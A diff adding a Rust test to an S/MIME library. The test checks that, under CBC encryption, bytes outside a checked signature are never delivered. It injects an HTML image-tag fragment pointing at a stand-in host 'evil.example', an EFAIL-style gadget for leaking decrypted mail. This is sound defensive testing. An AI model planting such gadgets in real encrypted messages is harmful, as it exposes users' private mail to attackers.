@@ -757,3 +757,26 @@ fn t16_a_wrong_clock_never_makes_a_signature_valid() {
     }
     assert!(valid >= 3 && invalid >= 6, "{valid} {invalid}");
 }
+
+#[test]
+fn a02_in_cbc_nothing_around_what_a_checked_signature_covers_is_delivered() {
+    let pki = people(NewKey::P256);
+    let (alice, bob) = (pki.leaf(ALICE).unwrap(), pki.leaf(BOB).unwrap());
+    let inner = String::from_utf8(signed(&pki, alice, Form::Clear, mail()).to_vec()).unwrap();
+    let inner = inner.split_at(inner.find("Content-Type:").unwrap()).1;
+    // Room for a gadget: octets that Alice's signature does not cover, and that the outer one does, whose algorithm nobody knows.
+    let inner = inner.replace("This is a cryptographically signed message", "<img src=\"//evil.example/");
+    assert!(inner.contains("evil.example"));
+    let chain = [pki.intermediate.certificate.clone()];
+    let parameters = parameters(&alice.certificate, &chain, scheme_of(alice));
+    let mut outer = sign(alice, &parameters, &Bytes::from(inner), true).to_vec();
+    let oid = [0x06, 0x08, 0x2a, 0x86, 0x48, 0xce, 0x3d, 0x04, 0x03, 0x02];
+    let at = outer.windows(oid.len()).rposition(|window| window == oid).unwrap();
+    outer[at + oid.len() - 1] = 0x7f;
+    let message = encrypted(&[bob], ContentEncryption::Aes256Cbc, pkcs7_message(&outer));
+    let opened = open(&pki, &[bob], message);
+    assert_eq!(opened.verdict.result, SmimeResult::Pass, "{}", opened.verdict.reason);
+    let text = String::from_utf8(opened.message.to_vec()).unwrap();
+    assert_eq!(entity(opened.message).content_type().unwrap().essence, "multipart/signed", "{text}");
+    assert!(!text.contains("evil.example"), "{text}");
+}
